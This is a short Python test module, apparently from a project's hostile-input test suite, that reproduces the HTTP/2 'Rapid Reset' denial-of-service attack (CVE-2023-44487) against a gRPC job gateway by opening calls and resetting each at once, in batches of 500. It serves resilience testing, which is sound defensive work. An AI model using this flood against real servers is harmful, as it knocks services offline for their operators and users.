"""Calls are begun and taken back at once, so that there is never one too many (CVE-2023-44487)."""

from __future__ import annotations

from counterflow.wire.http2 import codes
from counterflow.wire.http2.outgoing import frame
from counterflow_wire import gateway
from tests.hostile.attack import Attack
from tests.hostile.raw import RawConnection
from tests.hostile.target import Target

POLL = gateway.ActivateJobsRequest(
    type="nothing", worker="w", timeout=1_000, maxJobsToActivate=1, requestTimeout=600_000
)
AT_ONCE = 500


async def run(target: Target, dose: int) -> None:
    """Begin and take back `dose` polls."""
    await target.flood(dose, AT_ONCE, _pair)


def _pair(client: RawConnection, number: int) -> bytes:
    stream_id = 2 * number + 1
    call = client.call(stream_id, gateway.METHODS["ActivateJobs"].path, POLL.SerializeToString())
    return call + frame(codes.RST_STREAM, 0, stream_id, (8).to_bytes(4))


ATTACK = Attack("polls that are begun and taken back at once", run, seen=10_000, small=0.2)
